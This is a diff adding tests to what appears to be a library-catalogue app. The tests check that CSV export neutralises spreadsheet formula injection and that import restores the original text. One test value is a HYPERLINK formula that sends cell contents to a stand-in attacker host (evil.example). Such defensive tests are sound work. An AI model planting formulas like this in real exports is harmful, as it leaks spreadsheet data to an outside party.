@@ -1,4 +1,5 @@
 import asyncio
+import csv
 import io
 import zipfile
 from dataclasses import replace
@@ -130,6 +131,35 @@ async def test_export_csv_can_be_imported_again_without_duplicates(client_for, s
         job = await upload(c, "export.csv", r.content, "import")
     assert job["status"] == "done" and job["created_titles"] == 0
     assert await Title.count() == 1
+
+
+async def test_export_quotes_cells_that_spreadsheets_would_run_as_formulas(client_for, staff):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Hier klicken")'
+    await make_title(title=formula, publisher="+49 Verlag", description="@SUMME(A1)", copies=1)
+    await make_title(title="-5 Grad", isbn="", year="2020", publisher="-Verlag")
+    async with client_for(staff) as c:
+        r = await c.get("/verwaltung/export.csv")
+        rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=";"))
+        assert [row["Titel"] for row in rows] == ["'" + formula, "'-5 Grad"]
+        assert [row["Verlag"] for row in rows] == ["'+49 Verlag", "'-Verlag"]
+        assert rows[0]["Beschreibung"] == "'@SUMME(A1)"
+        assert rows[0]["Exemplare"] == "1" and rows[1]["Jahr"] == "2020"  # numbers stay numbers
+        # The import takes the apostrophe off: the same titles are recognised, none added.
+        job = await upload(c, "export.csv", r.content, "import")
+    assert job["status"] == "done" and job["created_titles"] == 0
+    assert "2 Titel sind schon im Bestand" in job["page"]
+    assert await Title.count() == 2
+
+
+async def test_an_imported_formula_like_title_is_stored_as_text_without_the_apostrophe(
+    client_for, staff
+):
+    content = b"Titel;Verlag\n'=1+1;'-Verlag\n"
+    async with client_for(staff) as c:
+        job = await upload(c, "liste.csv", content, "import")
+    assert job["status"] == "done", job["errors"]
+    row = await Title.select(Title.title, Title.publisher).first()
+    assert row == {"title": "=1+1", "publisher": "-Verlag"}
 
 
 async def test_a_running_import_polls_with_a_self_replacing_fragment(client_for, staff):
